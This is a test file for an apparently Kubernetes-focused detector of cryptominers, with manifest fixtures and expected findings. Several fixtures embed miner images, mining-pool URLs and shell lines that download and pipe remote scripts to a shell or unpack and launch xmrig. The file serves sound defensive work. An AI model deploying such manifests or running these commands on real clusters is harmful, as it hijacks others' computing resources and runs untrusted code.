import { testCheck } from '../tester.js';
import check from './index.js';

testCheck(check, {
  valid: [
    {
      name: "'miner' in unrelated names: miner-metrics, dataminer-api, kube-state-metrics",
      yaml: `
apiVersion: apps/v1
kind: Deployment
metadata: {name: miner-metrics}
spec:
  template:
    spec:
      containers:
      - name: miner-metrics
        image: ghcr.io/acme/miner-metrics:1.2
      - name: api
        image: acme/dataminer-api:3.0
        args: [--miner-mode=batch]
      - name: metrics
        image: registry.k8s.io/kube-state-metrics/kube-state-metrics:v2.13.0
`,
    },
    {
      name: '-o is an output file, and a database pool that is not a host:port',
      yaml: `
apiVersion: batch/v1
kind: Job
metadata: {name: report}
spec:
  template:
    spec:
      containers:
      - name: report
        image: acme/report:1.0
        command: [sh, -c, "report -o /tmp/pool.csv --url=https://pool.example.com/api"]
        env:
        - {name: DB_POOL, value: "pgbouncer.db:6432"}
`,
    },
  ],
  invalid: [
    {
      name: 'xmrig image, at the image field',
      yaml: `
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent}
spec:
  template:
    spec:
      containers:
      - name: agent
        image: metal3d/xmrig:latest
`,
      findings: [
        {
          line: 10,
          column: 9,
          techniques: ['MS-TA9039'],
          severity: 'critical',
          path: 'spec.template.spec.containers[0].image',
          message: /'agent'.*metal3d\/xmrig/,
        },
      ],
    },
    {
      name: 'miner variants by repository segment and coin name',
      yaml: `
apiVersion: v1
kind: Pod
metadata: {name: work}
spec:
  containers:
  - name: a
    image: ghcr.io/someone/cpuminer-opt:3.24
  - name: b
    image: nicehash/excavator
  - name: c
    image: quay.io/x/monero-cpu-miner:2
  - name: d
    image: localhost:5000/docker-xmr-stak
`,
      findings: [
        { line: 8, message: /'a'/ },
        { line: 10, message: /'b'/ },
        { line: 12, message: /'c'/ },
        { line: 14, message: /'d'/ },
      ],
    },
    {
      name: 'stratum URL in args of an innocent image',
      yaml: `
apiVersion: batch/v1
kind: CronJob
metadata: {name: cleanup}
spec:
  schedule: "*/5 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - name: cleanup
            image: alpine:3.20
            command: [/bin/sh, -c]
            args:
            - curl -sL https://example.net/x.sh | sh
            - ./run --algo rx/0 --url=stratum+ssl://xmr.example.net:443 --tls
`,
      findings: [
        {
          line: 17,
          path: 'spec.jobTemplate.spec.template.spec.containers[0].args[1]',
          message: /mining pool 'stratum\+ssl:\/\/xmr\.example\.net:443'$/,
        },
      ],
    },
    {
      name: 'miner program, pool flag and donate-level on a shell line',
      yaml: `
apiVersion: v1
kind: Pod
metadata: {name: busy}
spec:
  containers:
  - name: a
    image: busybox:1.36
    command: ["sh", "-c", "wget -qO- https://example.net/t | tar xz && ./xmrig-6.21.0/xmrig -c c.json"]
  - name: b
    image: busybox:1.36
    args: [run, -o, pool.supportxmr.com:3333]
  - name: c
    image: busybox:1.36
    args: [run, --donate-level=1]
`,
      findings: [
        { line: 9, message: /names the miner '\.\/xmrig-6\.21\.0\/xmrig'/ },
        { line: 12, message: /mining pool 'pool\.supportxmr\.com:3333'/ },
        { line: 15, message: /--donate-level/ },
      ],
    },
    {
      name: 'pool URL in an environment variable',
      yaml: `
apiVersion: v1
kind: Pod
metadata: {name: env}
spec:
  containers:
  - name: worker
    image: acme/worker:1.0
    env:
    - name: POOL
      value: stratum2+tcp://eth.example.net:4444
`,
      findings: [{ line: 11, path: 'spec.containers[0].env[0].value', message: /variable POOL/ }],
    },
    {
      name: "a pool URL's wallet and password stay out of the message",
      yaml: `
apiVersion: v1
kind: Pod
metadata: {name: env}
spec:
  containers:
  - name: worker
    image: acme/worker:1.0
    env:
    - name: MINER_ARGS
      value: "-o stratum+tcp://44AFFq5kSiGBoZ.rig1:s3cret-pass@pool.example.net:3333 --threads 4"
`,
      findings: [
        {
          line: 11,
          message:
            "container 'worker' mines cryptocurrency: its variable MINER_ARGS names the mining pool 'stratum+tcp://pool.example.net:3333'",
        },
      ],
    },
  ],
});
